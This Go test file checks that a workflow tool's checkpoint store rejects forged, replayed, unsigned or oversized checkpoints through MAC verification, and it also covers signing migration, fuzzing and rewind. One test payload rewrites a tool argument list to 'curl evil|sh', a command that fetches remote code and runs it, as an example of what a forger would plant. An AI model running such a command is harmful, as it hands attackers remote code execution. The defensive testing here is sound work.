package runstore_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/tether-run/tether/internal/blob"
	"github.com/tether-run/tether/internal/runapi"
	"github.com/tether-run/tether/internal/runstore"
)

func testKey(b byte) []byte { return bytes.Repeat([]byte{b}, runstore.KeySize) }

const cpKey1 = "runs/r1/checkpoints/00000000000000000001.json"

// rewrite is a bucket writer's edit of a stored checkpoint: it replaces
// old with new in the checkpoint's JSON and stores it compressed again,
// keeping any MAC line as it was.
func rewrite(t *testing.T, raw []byte, old, new string) []byte {
	t.Helper()
	header, body := splitMAC(raw)
	plain, err := runstore.Decompress(body)
	if err != nil {
		t.Fatal(err)
	}
	edited := bytes.ReplaceAll(plain, []byte(old), []byte(new))
	if bytes.Equal(edited, plain) {
		t.Fatalf("test setup: %s not found in the record", old)
	}
	return append(header, runstore.Compress(edited)...)
}

// splitMAC returns a stored checkpoint's MAC line (empty when it has
// none) and its body, each a copy.
func splitMAC(raw []byte) (header, body []byte) {
	raw = bytes.Clone(raw)
	if !runstore.Signed(raw) {
		return nil, raw
	}
	i := bytes.IndexByte(raw, '\n') + 1
	return raw[:i:i], raw[i:]
}

func toolCheckpoint(run string, seq int64, argv ...string) *runstore.Checkpoint {
	cp := checkpoint(run, seq)
	args, _ := json.Marshal(argv)
	cp.Graph = json.RawMessage(`{"name":"loop","start":"check","nodes":[{"id":"check","kind":"tool","run":` + string(args) + `}]}`)
	return cp
}

// An attacker who can write to the bucket rewrites a signed checkpoint's
// tool argv (keeping its MAC line), replays it under another sequence
// number or run, or writes one of their own without a MAC: every read
// refuses it with a typed error, never not-found.
func TestCheckpointMACRefusesForgeries(t *testing.T) {
	ctx := context.Background()
	b := blob.NewMem()
	s := runstore.New(b, runstore.WithKey(testKey(1)))
	if err := s.Save(ctx, "r1", toolCheckpoint("r1", 1, "make", "test")); err != nil {
		t.Fatal(err)
	}
	raw, err := blob.GetBytes(ctx, b, cpKey1)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(raw, []byte("TCK1 ")) {
		t.Fatalf("a keyed store wrote %.20q, want a MAC line first", raw)
	}
	if got, err := s.Get(ctx, "r1", 1); err != nil || runapi.GraphOrEmpty(got).Nodes[0].Run[0] != "make" {
		t.Fatalf("Get of the signed checkpoint = %v, %v", got, err)
	}

	forged := rewrite(t, raw, `"make","test"`, `"sh","-c","curl evil|sh"`)
	cases := map[string]struct {
		key  string
		data []byte
		want error
	}{
		"argv rewritten":        {cpKey1, forged, runstore.ErrCheckpointAuth},
		"replayed under seq 2":  {"runs/r1/checkpoints/00000000000000000002.json", raw, runstore.ErrCheckpointAuth},
		"replayed under run r2": {"runs/r2/checkpoints/00000000000000000001.json", rewrite(t, raw, `"run_id":"r1"`, `"run_id":"r2"`), runstore.ErrCheckpointAuth},
		"unsigned":              {"runs/r3/checkpoints/00000000000000000001.json", raw[bytes.IndexByte(raw, '\n')+1:], runstore.ErrUnsignedCheckpoint},
		"truncated header":      {"runs/r4/checkpoints/00000000000000000001.json", []byte("TCK1 abc\n{}"), runstore.ErrCheckpointAuth},
		"header not hex":        {"runs/r5/checkpoints/00000000000000000001.json", append([]byte("TCK1 "+strings.Repeat("zz", 32)+"\n"), raw[bytes.IndexByte(raw, '\n')+1:]...), runstore.ErrCheckpointAuth},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			if err := blob.PutBytes(ctx, b, c.key, c.data); err != nil {
				t.Fatal(err)
			}
			run := strings.Split(c.key, "/")[1]
			seq := int64(1)
			if strings.HasSuffix(c.key, "2.json") {
				seq = 2
			}
			cp, err := s.Get(ctx, run, seq)
			if !errors.Is(err, c.want) || errors.Is(err, blob.ErrNotFound) {
				t.Fatalf("Get = %+v, %v; want %v", cp, err, c.want)
			}
			if _, err := s.Latest(ctx, run); !errors.Is(err, c.want) {
				t.Fatalf("Latest = %v; want %v", err, c.want)
			}
		})
	}
	// Restore the genuine record for the rest.
	if err := blob.PutBytes(ctx, b, cpKey1, raw); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Rewind(ctx, "r1", 1); !errors.Is(err, runstore.ErrCheckpointAuth) {
		t.Fatalf("Rewind with a forged later checkpoint = %v, want ErrCheckpointAuth", err)
	}
	if err := b.Delete(ctx, "runs/r1/checkpoints/00000000000000000002.json"); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Rewind(ctx, "r1", 1); err != nil {
		t.Fatalf("Rewind over signed checkpoints: %v", err)
	}
	other := runstore.New(b, runstore.WithKey(testKey(2)))
	if _, err := other.Get(ctx, "r1", 1); !errors.Is(err, runstore.ErrCheckpointAuth) {
		t.Fatalf("Get under another key = %v, want ErrCheckpointAuth", err)
	}
}

// The documented migration: a store written without a key is read by a
// keyed one only after `tether store sign` (Store.Sign) re-signed it; a
// keyless reader keeps reading both.
func TestCheckpointSignMigration(t *testing.T) {
	ctx := context.Background()
	b := blob.NewMem()
	legacy := runstore.New(b)
	for seq := int64(1); seq <= 2; seq++ {
		if err := legacy.Save(ctx, "r1", toolCheckpoint("r1", seq, "make")); err != nil {
			t.Fatal(err)
		}
	}
	keyed := runstore.New(b, runstore.WithKey(testKey(1)))
	_, err := keyed.Latest(ctx, "r1")
	if !errors.Is(err, runstore.ErrUnsignedCheckpoint) || !strings.Contains(err.Error(), "tether store sign r1") {
		t.Fatalf("keyed Latest of a legacy run = %v, want ErrUnsignedCheckpoint naming the migration", err)
	}
	if _, err := legacy.Sign(ctx, "r1"); !errors.Is(err, runstore.ErrNoKey) {
		t.Fatalf("Sign without a key = %v, want ErrNoKey", err)
	}
	rep, err := keyed.Sign(ctx, "r1")
	if err != nil || len(rep.Signed) != 2 || len(rep.AlreadySigned) != 0 {
		t.Fatalf("Sign = %+v, %v", rep, err)
	}
	if cp, err := keyed.Latest(ctx, "r1"); err != nil || cp.Seq != 2 {
		t.Fatalf("keyed Latest after Sign = %v, %v", cp, err)
	}
	if rep, err = keyed.Sign(ctx, "r1"); err != nil || len(rep.Signed) != 0 || len(rep.AlreadySigned) != 2 {
		t.Fatalf("second Sign = %+v, %v", rep, err)
	}
	if cp, err := legacy.Get(ctx, "r1", 1); err != nil || cp.Seq != 1 {
		t.Fatalf("keyless Get of a signed checkpoint = %v, %v", cp, err)
	}
	// A signed record that fails its MAC is never re-signed.
	raw, _ := blob.GetBytes(ctx, b, cpKey1)
	if err := blob.PutBytes(ctx, b, cpKey1, rewrite(t, raw, `"make"`, `"evil"`)); err != nil {
		t.Fatal(err)
	}
	if _, err := keyed.Sign(ctx, "r1"); !errors.Is(err, runstore.ErrCheckpointAuth) {
		t.Fatalf("Sign over a tampered signed record = %v, want ErrCheckpointAuth", err)
	}
	// Nor is an unsigned record that names another run or number.
	if err := blob.PutBytes(ctx, b, "runs/r9/checkpoints/00000000000000000001.json", raw[bytes.IndexByte(raw, '\n')+1:]); err != nil {
		t.Fatal(err)
	}
	if _, err := keyed.Sign(ctx, "r9"); !errors.Is(err, runstore.ErrInvalidCheckpoint) {
		t.Fatalf("Sign of another run's record = %v, want ErrInvalidCheckpoint", err)
	}
}

// A huge object at a checkpoint key is refused without reading it whole.
func TestCheckpointReadIsCapped(t *testing.T) {
	ctx := context.Background()
	b := blob.NewMem()
	big := make([]byte, runstore.MaxCheckpointBytes+1)
	big[0] = '{'
	if err := blob.PutBytes(ctx, b, cpKey1, big); err != nil {
		t.Fatal(err)
	}
	if _, err := runstore.New(b).Get(ctx, "r1", 1); !errors.Is(err, blob.ErrTooLarge) {
		t.Fatalf("Get of an oversized checkpoint = %v, want blob.ErrTooLarge", err)
	}
}

// FuzzCheckpointUnseal feeds arbitrary records to MAC verification,
// decompression and decoding: nothing panics, a body that does not
// decompress is ErrCorruptCheckpoint, and whatever verifies under the key is exactly
// what Seal produced for that run and number.
func FuzzCheckpointUnseal(f *testing.F) {
	key := testKey(7)
	plain, _ := runstore.Encode(toolCheckpoint("r1", 1, "make"))
	body := runstore.Compress(plain)
	f.Add(runstore.Seal(key, "r1", 1, body), "r1", int64(1))
	f.Add(runstore.Seal(key, "r1", 1, plain), "r1", int64(1))
	f.Add(body[:len(body)-3], "r1", int64(1))
	f.Add(runstore.Seal(key, "r1", 1, body), "r1", int64(2))
	f.Add(body, "r1", int64(1))
	f.Add([]byte("TCK1 \n"), "r", int64(0))
	f.Add([]byte("TCK1 "+strings.Repeat("0", 64)+"\n{\"version\":1}"), "r", int64(1))
	f.Fuzz(func(t *testing.T, data []byte, run string, seq int64) {
		got, err := runstore.Unseal(key, run, seq, data)
		if err != nil {
			if !errors.Is(err, runstore.ErrCheckpointAuth) {
				t.Fatalf("Unseal error %v is not ErrCheckpointAuth", err)
			}
		} else if !bytes.Equal(runstore.Seal(key, run, seq, got), data) {
			t.Fatalf("Unseal accepted %q, which Seal did not produce", data)
		}
		if body, err := runstore.Unseal(nil, run, seq, data); err == nil {
			if plain, err := runstore.Decompress(body); err == nil {
				_, _ = runstore.Decode(plain)
			} else if !errors.Is(err, runstore.ErrCorruptCheckpoint) {
				t.Fatalf("Decompress error %v is not ErrCorruptCheckpoint", err)
			}
		}
	})
}

// Rewind with RewindGraph writes the graph the caller trusts, not the
// stored checkpoint's.
func TestRewindGraphReplacesTheStoredGraph(t *testing.T) {
	ctx := context.Background()
	s := runstore.New(blob.NewMem())
	if err := s.Save(ctx, "r1", toolCheckpoint("r1", 1, "echo", "forged")); err != nil {
		t.Fatal(err)
	}
	trusted := toolCheckpoint("r1", 1, "echo", "genuine").Graph
	rep, err := s.Rewind(ctx, "r1", 1, runstore.RewindGraph(trusted))
	if err != nil {
		t.Fatal(err)
	}
	got, err := s.Get(ctx, "r1", rep.Checkpoint.Seq)
	if err != nil || runapi.GraphOrEmpty(got).Nodes[0].Run[1] != "genuine" || runapi.GraphOrEmpty(rep.Checkpoint).Nodes[0].Run[1] != "genuine" {
		t.Fatalf("rewound graph = %+v, %v", got, err)
	}
}
